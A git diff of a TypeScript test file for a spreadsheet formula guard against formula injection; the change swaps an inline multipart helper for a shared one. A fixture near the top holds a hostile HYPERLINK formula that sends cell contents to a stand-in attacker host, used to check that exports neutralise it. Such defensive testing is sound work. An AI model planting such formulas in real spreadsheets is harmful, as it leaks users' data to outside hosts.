@@ -7,6 +7,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import { testApp, type TestApp } from '../support/app.js';
 import { guardFormula, guardedRow, unguardFormula } from '../../src/platform/sheets/formula-guard.js';
+import { multipartFile } from '../support/multipart.js';
 
 const HOSTILE = {
   name: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
@@ -56,18 +57,6 @@ function textCells(ws: ExcelJS.Worksheet): string[] {
 
 const runnable = (s: string) => /^[=+\-@\t\r]/.test(s);
 
-function multipart(filename: string, data: Buffer) {
-  const boundary = `----qqsec${Math.random().toString(16).slice(2)}`;
-  return {
-    payload: Buffer.concat([
-      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`),
-      data,
-      Buffer.from(`\r\n--${boundary}--\r\n`),
-    ]),
-    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
-  };
-}
-
 describe('the formula guard (platform/sheets/formula-guard.ts)', () => {
   it('prefixes text a spreadsheet could run, and nothing else', () => {
     for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1']) expect(guardFormula(s)).toBe(`'${s}`);
@@ -99,7 +88,7 @@ describe('exports write no runnable formula text', () => {
     expect(row!.getCell(10).value).toBe(`'${HOSTILE.phone}`);
     expect(textCells(ws).filter(runnable)).toEqual([]);
 
-    const body = multipart('export.xlsx', res.rawPayload);
+    const body = multipartFile(res.rawPayload, 'export.xlsx');
     const again = await t.app.inject({ method: 'POST', url: '/api/enterprises/import', payload: body.payload, headers: { ...body.headers, cookie: admin } });
     expect(again.statusCode, again.body).toBe(200);
     expect(again.json()).toMatchObject({ imported: 0, updated: 0, errors: [] });
